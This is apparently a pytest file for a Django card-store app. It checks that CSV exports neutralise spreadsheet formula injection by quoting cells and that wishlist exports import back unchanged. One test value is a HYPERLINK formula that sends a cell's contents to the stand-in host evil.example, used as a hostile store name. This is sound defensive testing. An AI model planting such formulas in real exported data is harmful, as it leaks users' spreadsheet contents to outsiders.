"""Every CSV the app writes opens in a spreadsheet as data: a cell that starts like a formula (`=`,
`+`, `-`, `@`, tab, carriage return) is written with a `'` in front (OWASP), and the wishlist export
still reads back in as the same list."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from cards.catalog.models import Card, MagicSet, Printing
from cards.wishlist.changes import SpecValues, Want, add_wants
from cards.wishlist.importing import preview_import
from cards.wishlist.models import TrackedCard
from lgs_checker.spreadsheet import FORMULA_STARTS, read_cell, safe_cell
from tests.buyplan.test_plan_page import answer, bolt_offer

HOSTILE_STORE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", [
    "=1+1", "+2 Mace", "-8.04", "@SUM(1+1)", "\t=cmd", "\r=cmd", "'=already quoted", "''+two", "'plain",
    "plain", "", "Fire // Ice", "2.50",
])
def test_a_cell_that_starts_like_a_formula_is_quoted_and_reads_back_as_it_was(text):
    written = safe_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert read_cell(written) == text


def test_the_buy_plan_csv_quotes_a_hostile_stores_name_language_and_link(alice, alice_client, bolt, make_store, choose):
    store = make_store("evil-games", name=HOSTILE_STORE)
    choose(alice, store)
    TrackedCard.objects.create(user=alice, card=bolt, amount=1)
    answer(store, bolt, {**bolt_offer("2.00", 1), "language": "@SUM(1+1)", "condition_raw": "-1+1"})
    response = alice_client.get("/plan/buy-plan.csv")
    rows = cells(response.content.decode())
    assert len(rows) == 2
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    header, row = rows
    item = dict(zip(header, row, strict=True))
    assert (item["store"], item["language"]) == ("'" + HOSTILE_STORE, "'@SUM(1+1)")


@pytest.fixture
def mace(db):
    """A real card whose name starts with a plus sign (Adventures in the Forgotten Realms)."""
    afr = MagicSet.objects.create(code="afr", name="Adventures in the Forgotten Realms")
    card = Card.objects.create(name="+2 Mace", layout="normal")
    Printing.objects.create(card=card, magic_set=afr, collector_number="1", finishes=["nonfoil", "foil"])
    return card


def test_the_wishlist_csv_quotes_a_name_starting_with_plus_and_imports_it_back(alice, alice_client, mace):
    add_wants(alice, mace, [Want(SpecValues("afr", "1", "foil"), 2)])
    exported = alice_client.get(reverse("wishlist_export"), {"format": "csv"}).content.decode()
    assert cells(exported)[1][2] == "'+2 Mace"  # a spreadsheet shows +2 Mace, and computes nothing
    preview = preview_import(exported)
    assert preview.errors == [] and preview.rejected == []
    assert [(row.card.name, row.spec) for row in preview.importable] == [("+2 Mace", SpecValues("afr", "1", "foil"))]
